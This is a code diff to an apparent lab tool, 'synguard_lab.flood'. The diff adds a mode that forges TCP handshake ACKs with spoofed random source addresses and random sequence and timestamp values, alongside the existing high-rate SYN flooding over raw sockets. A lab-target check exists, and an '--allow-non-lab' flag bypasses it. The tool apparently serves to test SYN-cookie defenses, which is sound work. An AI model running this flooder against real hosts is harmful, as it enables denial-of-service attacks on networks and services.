@@ -33,7 +33,7 @@ one ``sendmmsg(2)`` through ctypes (one Python-level call per 256 frames). When
 that is unavailable it falls back to ``socket.send`` in a lean loop.
 
 CLI: ``python -m synguard_lab.flood --iface a0 --dst-mac M --src-mac M --dst IP
---dport 80 --count N --seconds S --seed K [--sources N] [--ipv6] [--pps R
+--dport 80 --count N --seconds S --seed K [--sources N] [--ipv6] [--ack] [--pps R
 [--ramp-to R2 [--ramp linear|exp]]]`` prints one JSON line: {"sent": n,
 "seconds": t, "pps": x, ...}.
 """
@@ -224,6 +224,49 @@ def build_frames(*, dst: str, dport: int, dst_mac: str, src_mac: str, n: int,
     return buf, flen
 
 
+# Forged handshake ACKs (``ack=True``, ``--ack``): what an attacker sends to guess
+# a cookie. Ethernet | IP | TCP 20 + NOP, NOP, Timestamps (32 bytes), ACK set, random
+# seq, ack, TSval and TSecr. Checksums are computed per frame (built once per pool).
+TCP_FLAG_ACK = 0x10
+_ACK_TCP_LEN = 32
+_TCP_TS = struct.Struct("!HHIIBBHHHBBBBII")
+
+
+def build_ack_frames(*, dst: str, dport: int, dst_mac: str, src_mac: str, n: int,
+                     seed: int, sources: int | None = None,
+                     ipv6: bool | None = None) -> tuple[bytearray, int]:
+    """n forged ACK frames in one buffer; returns (buffer, frame_length)."""
+    dst_ip = ipaddress.ip_address(dst)
+    ipv6 = dst_ip.version == 6 if ipv6 is None else ipv6
+    if ipv6 != (dst_ip.version == 6) or not 0 < dport < 65536 or n <= 0:
+        raise ValueError(f"bad ACK flood parameters: dst={dst} ipv6={ipv6} dport={dport} n={n}")
+    rng = random.Random(seed)
+    nsrc = n if sources is None else max(1, min(int(sources), n))
+    srcs = random_sources(rng, nsrc, ipv6)
+    eth = _ETH.pack(mac_bytes(dst_mac), mac_bytes(src_mac), ETH_P_IPV6 if ipv6 else ETH_P_IP)
+    daddr = dst_ip.packed
+    ip_len = 40 if ipv6 else 20
+    flen = 14 + ip_len + _ACK_TCP_LEN
+    buf = bytearray(flen * n)
+    for i in range(n):
+        off = i * flen
+        saddr = srcs[i if sources is None else rng.randrange(nsrc)]
+        buf[off:off + 14] = eth
+        if ipv6:
+            _IP6.pack_into(buf, off + 14, 0x60000000, _ACK_TCP_LEN, IPPROTO_TCP, 64, saddr, daddr)
+        else:
+            ipid = rng.getrandbits(16)
+            hdr = _IP4.pack(0x45, 0, 20 + _ACK_TCP_LEN, ipid, 0x4000, 64, IPPROTO_TCP, 0, saddr, daddr)
+            buf[off + 14:off + 34] = hdr[:10] + struct.pack("!H", 0xFFFF - _fold(_words(hdr))) + hdr[12:]
+        tcp = _TCP_TS.pack(1024 + rng.randrange(64512), dport, rng.getrandbits(32), rng.getrandbits(32),
+                           8 << 4, TCP_FLAG_ACK, 502, 0, 0, 1, 1, 8, 10, rng.getrandbits(32), rng.getrandbits(32))
+        pseudo = _words(saddr) + _words(daddr) + IPPROTO_TCP + _ACK_TCP_LEN
+        csum = 0xFFFF - _fold(pseudo + _words(tcp))
+        t = off + 14 + ip_len
+        buf[t:t + _ACK_TCP_LEN] = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
+    return buf, flen
+
+
 # --- pacing -------------------------------------------------------------------
 
 RAMPS = ("linear", "exp")
@@ -396,8 +439,8 @@ def flood(iface: str, *, dst: str, dst_mac: str, src_mac: str, dport: int = 80,
           ipv6: bool | None = None, pool: int = DEFAULT_POOL,
           method: str = "auto", allow_non_lab: bool = False,
           pps: float | None = None, ramp_to: float | None = None,
-          ramp: str = "linear") -> dict:
-    """Send at most `count` SYNs for at most `seconds` on `iface`.
+          ramp: str = "linear", ack: bool = False) -> dict:
+    """Send at most `count` SYNs (forged ACKs with ack=True) for at most `seconds` on `iface`.
 
     Run in the netns that owns `iface`. Returns {"sent", "seconds", "pps",
     "errors", "pool", "build_seconds", "method", "started_at", "ended_at"};
@@ -414,9 +457,10 @@ def flood(iface: str, *, dst: str, dst_mac: str, src_mac: str, dport: int = 80,
         check_lab_target(dst)
     t0 = time.monotonic()
     n = max(1, min(int(count), int(pool)))
-    buf, flen = build_frames(dst=dst, dport=dport, dst_mac=dst_mac,
-                             src_mac=src_mac, n=n, seed=seed, sources=sources,
-                             ipv6=ipv6)
+    build_fn = build_ack_frames if ack else build_frames
+    buf, flen = build_fn(dst=dst, dport=dport, dst_mac=dst_mac,
+                         src_mac=src_mac, n=n, seed=seed, sources=sources,
+                         ipv6=ipv6)
     build = time.monotonic() - t0
     proto = ETH_P_IPV6 if buf[12:14] == b"\x86\xdd" else ETH_P_IP
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(proto)) as s:
@@ -472,6 +516,8 @@ def main(argv: list[str] | None = None) -> int:
                    help="with --pps: climb from --pps to this rate over --seconds")
     p.add_argument("--ramp", choices=RAMPS, default="linear",
                    help="ramp shape (default linear; exp: same factor every second)")
+    p.add_argument("--ack", action="store_true",
+                   help="forged handshake ACKs (random seq/ack/timestamps) instead of SYNs")
     p.add_argument("--allow-non-lab", action="store_true",
                    help="allow targets outside 10.77/16, fd77::/16 and outside ip netns")
     a = p.parse_args(argv)
@@ -481,7 +527,7 @@ def main(argv: list[str] | None = None) -> int:
                     dport=a.dport, count=a.count, seconds=a.seconds, seed=a.seed,
                     sources=a.sources, ipv6=ipv6, pool=a.pool, method=a.method,
                     allow_non_lab=a.allow_non_lab, pps=a.pps,
-                    ramp_to=a.ramp_to, ramp=a.ramp)
+                    ramp_to=a.ramp_to, ramp=a.ramp, ack=a.ack)
     except (ValueError, OSError) as e:
         print(f"flood: {e}", file=sys.stderr)
         return 2
